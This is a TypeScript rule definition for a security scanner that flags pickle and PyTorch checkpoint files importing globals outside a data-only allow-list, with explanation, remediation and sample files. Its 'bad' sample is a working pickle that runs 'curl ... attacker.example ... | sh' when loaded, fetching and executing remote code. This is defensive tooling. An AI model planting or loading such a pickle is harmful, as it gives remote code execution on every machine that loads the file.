import type { RuleMeta } from '../../core/rule.js';

/** The rule behind every pickle-artifact finding. */
export const unsafeGlobalRule: RuleMeta = {
  id: 'pickle.unsafe-global',
  title: 'Pickle artifact imports a global outside the data-only allow-list',
  category: 'sast',
  severity: 'high',
  confidence: 'high',
  cwe: ['CWE-502'],
  what:
    'Reads .pkl, .pickle and .joblib files and PyTorch .pt/.pth checkpoints in the repository opcode by opcode — ' +
    'never unpickling them — and reports the globals they import (GLOBAL, STACK_GLOBAL, INST, copyreg extensions) ' +
    'that are not on an allow-list of data reconstruction helpers (containers, numpy, pandas, scikit-learn, PyTorch ' +
    'tensors). Imports of os, subprocess, builtins.eval/exec and the like are critical.',
  why:
    'Loading a pickle calls whatever callables its bytes name, with arguments the bytes choose: a model or cached ' +
    'frame committed to the repository, or pulled into it by a data sync, can run commands on every machine that ' +
    'loads it — CI, notebooks, training workers and serving. The file looks like data in review, so nobody reads it.',
  remediation:
    'Delete the artifact and regenerate it from code, or replace it with a data-only format (safetensors for tensors, ' +
    'Parquet for frames, skops or ONNX for models). If the imports are expected (your own classes), load the file ' +
    'only with a restricted Unpickler whose find_class allows exactly those, and pin its hash.',
  // Protocol 0 pickles are ASCII, so the examples are real pickle files, written as text.
  bad: [
    {
      file: 'models/churn.pkl',
      code: 'cposix\nsystem\np0\n(Vcurl -s https://attacker.example/x | sh\np1\ntp2\nRp3\n.',
    },
  ],
  good: [
    {
      file: 'models/feature_config.pkl',
      code: '(dp0\nVcolumns\np1\n(lp2\nVage\np3\naVincome\np4\nasVversion\np5\nI3\nsVweights\np6\nccollections\nOrderedDict\np7\n(tRp8\nVa\np9\nF0.5\nss.',
    },
  ],
  references: [
    'https://docs.python.org/3/library/pickle.html#restricting-globals',
    'https://github.com/python/cpython/blob/main/Lib/pickletools.py',
    'https://huggingface.co/docs/hub/security-pickle',
    'https://cwe.mitre.org/data/definitions/502.html',
  ],
};
